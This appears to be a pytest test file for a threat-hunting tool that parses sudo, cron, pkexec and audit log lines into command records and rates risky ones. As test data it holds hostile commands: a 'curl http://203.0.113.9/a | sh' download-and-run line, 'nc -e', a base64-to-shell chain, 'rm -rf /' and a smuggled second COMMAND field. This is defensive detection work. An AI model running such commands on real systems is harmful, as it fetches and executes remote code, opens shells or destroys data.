"""Commands that sudo, cron and pkexec tell of in syslog, judged once with the audit log's."""

from pathlib import Path

import polars as pl
import pytest

import huntkit
from huntkit.report import risky
from huntkit.report.command_lines import command_lines
from huntkit.report.layouts import layouts

GET = "bash -c curl http://203.0.113.9/a | sh"
SUDO = "sudo:      ana : TTY=pts/0 ; PWD=/home/ana ; USER=root ; COMMAND="


def lines_of(folder: Path, *lines: str, audit: tuple[str, ...] = ()) -> pl.DataFrame:
    evidence = folder / "evidence"
    evidence.mkdir()
    told = [f"2026-03-03T09:12:31+00:00 web1 {line}" for line in lines]
    (evidence / "auth.log").write_text("\n".join(told) + "\n")
    if audit:
        (evidence / "audit.log").write_text("\n".join(audit) + "\n")
    with huntkit.open(evidence, cache_dir=folder / "cache", frame="polars") as opened:
        return command_lines(opened, layouts(opened))


def audited(command: str, serial: int = 7) -> str:
    return (
        f"node=web1 type=USER_CMD msg=audit(1772529151.100:{serial}): pid=9 uid=1000 auid=1000 "
        f'ses=3 msg=\'cwd="/home/ana" cmd={command.encode().hex().upper()} terminal=pts/0 '
        "res=success'"
    )


@pytest.mark.parametrize(
    ("line", "text", "user"),
    [
        (SUDO + "/usr/bin/id -u", "/usr/bin/id -u", "ana"),
        ("sudo: CORP\\ana lee : TTY=unknown ; PWD=/ ; USER=root ; ENV=A=b c ; COMMAND=/bin/ls",
         "/bin/ls", "CORP\\ana lee"),
        ("sudo: eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/cat /x",
         "/bin/cat /x", "eve"),
        ("sudo: ana : TTY=unknown   PWD=/   USER=root   COMMAND=/bin/sh", "/bin/sh", "ana"),
        ("sudo: ana : (command continued) -o /tmp/x http://203.0.113.9/a",
         "-o /tmp/x http://203.0.113.9/a", "ana"),
        ("sudo: message repeated 2 times: [ ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/w]",
         "/bin/w", "ana"),
        ("sudo: ana : TTY=pts/0 ; PWD=/a ; USER=b ; COMMAND=/x ; USER=root ; COMMAND=/bin/nc -e",
         "/x ; USER=root ; COMMAND=/bin/nc -e", "ana"),
        ("CRON[812]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
         "cd / && run-parts --report /etc/cron.hourly", "root"),
        ("CROND[812]: (www-data) CMD (/tmp/.x (y))", "/tmp/.x (y)", "www-data"),
        ("/usr/sbin/cron[812]: (root) CMD (/usr/libexec/atrun)", "/usr/libexec/atrun", "root"),
        ("pkexec[9]: ana: Executing command [USER=root] [TTY=unknown] [CWD=/] [COMMAND=/bin/id]",
         "/bin/id", "ana"),
    ],
)  # fmt: skip
def test_a_command_is_told_with_who_gave_it(
    tmp_path: Path, line: str, text: str, user: str
) -> None:
    [row] = lines_of(tmp_path, line).to_dicts()
    assert (row["text"], row["User"], row["Host"], row["Table"]) == (text, user, "web1", "Syslog")
    assert (row["Mentions"], row["_record"]) == (1, 1)


@pytest.mark.parametrize(
    "line",
    [
        "sudo: pam_unix(sudo:session): session opened for user root by ana(uid=1000)",
        "sshd[7]: Invalid user x ; COMMAND=/bin/sh from 203.0.113.9 port 22",
        "myapp: (root) CMD (rm -rf /)",
        "CRON[812]: (root) CMDOUT (done)",
        "CRON[812]: (root) CMDEND (run-parts /etc/cron.hourly)",
        "crontab[812]: (root) REPLACE (root)",
    ],
)
def test_lines_of_others_tell_of_no_command(tmp_path: Path, line: str) -> None:
    assert not lines_of(tmp_path, line).height


def test_sudo_in_the_audit_log_is_judged_with_the_number_of_its_account(tmp_path: Path) -> None:
    [row] = lines_of(tmp_path, "su: x", audit=(audited(GET),)).to_dicts()
    assert (row["text"], row["User"], row["Host"], row["Table"]) == (
        GET,
        "1000",
        "web1",
        "LinuxAudit",
    )


def test_audit_records_inside_syslog_lines_are_judged(tmp_path: Path) -> None:
    inside = audited(GET).removeprefix("node=web1 ")
    [row] = lines_of(tmp_path, f"audispd: {inside}").to_dicts()
    assert (row["text"], row["Table"]) == (GET, "LinuxAudit")


def test_what_syslog_and_audit_log_tell_of_one_command_is_one_line(tmp_path: Path) -> None:
    started = (
        "node=web1 type=SYSCALL msg=audit(1772529151.101:8): arch=c000003e syscall=59 success=yes "
        'ppid=9 pid=10 uid=0 auid=1000 comm="bash" exe="/usr/bin/bash"\n'
        'node=web1 type=EXECVE msg=audit(1772529151.101:8): argc=3 a0="bash" a1="-c" '
        f"a2={GET.removeprefix('bash -c ').encode().hex().upper()}"
    )
    syslog = SUDO + "/usr/bin/bash -c 'curl http://203.0.113.9/a | sh'"
    [row] = lines_of(tmp_path, syslog, audit=(audited(GET), started)).to_dicts()
    assert (row["text"], row["Table"], row["Mentions"]) == (GET, "DeviceProcessEvents", 1)
    assert row["Hosts"] == ["web1"]


def test_a_command_that_sudo_cut_into_lines_is_one(tmp_path: Path) -> None:
    word = "A" * 920
    found = lines_of(
        tmp_path,
        SUDO + "/usr/bin/bash -c echo",
        "CRON[1]: pam_unix(cron:session): session closed for user root",
        f"sudo:      ana : (command continued) {word}",
        "sudo: eve : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
        f"sudo:      ana : (command continued) {word} | base64 -d",
        "sudo:      ana : (command continued) | sh",
        SUDO + "/bin/true",
    )
    assert dict(found.select("text", "_record").rows()) == {
        f"/usr/bin/bash -c echo {word}{word} | base64 -d | sh": 1,
        "/bin/ls": 4,
        "/bin/true": 7,
    }


def test_a_flood_of_pieces_is_not_joined(tmp_path: Path) -> None:
    pieces = [f"sudo: ana : (command continued) {n} {'x' * 900}" for n in range(300)]
    found = lines_of(tmp_path, SUDO + "/bin/echo", *pieces)
    assert found.height == 301


def test_what_cron_gave_a_shell_is_one_line_with_its_start(tmp_path: Path) -> None:
    started = (
        "node=web1 type=SYSCALL msg=audit(1772529151.101:8): arch=c000003e syscall=59 success=yes "
        'ppid=9 pid=10 uid=0 auid=0 comm="sh" exe="/usr/bin/dash"\n'
        'node=web1 type=EXECVE msg=audit(1772529151.101:8): argc=3 a0="/bin/sh" a1="-c" '
        f"a2={b'   cd / && id'.hex().upper()}"
    )
    line = "CRON[9]: (root) CMD (   cd / && id)"
    [row] = lines_of(tmp_path, line, audit=(started,)).to_dicts()
    assert (row["text"].split(), row["Table"]) == (
        ["/bin/sh", "-c", "cd", "/", "&&", "id"],
        "DeviceProcessEvents",
    )


def test_a_program_in_another_folder_is_another_command(tmp_path: Path) -> None:
    found = lines_of(tmp_path, SUDO + "/tmp/id -u", audit=(audited("id -u"),))
    assert set(found["text"]) == {"/tmp/id -u", "id -u"}


def test_the_report_judges_what_sudo_ran(tmp_path: Path) -> None:
    path = tmp_path / "auth.log"
    path.write_text(f"2026-03-03T09:12:31+00:00 web1 {SUDO}/usr/bin/{GET}\n")
    with huntkit.open(path, cache_dir=tmp_path / "cache", frame="polars") as opened:
        [row] = risky.risky(opened, layouts(opened), []).to_dicts()
    assert (row["Severity"], row["Users"], row["Hosts"]) == ("high", ["ana"], ["web1"])
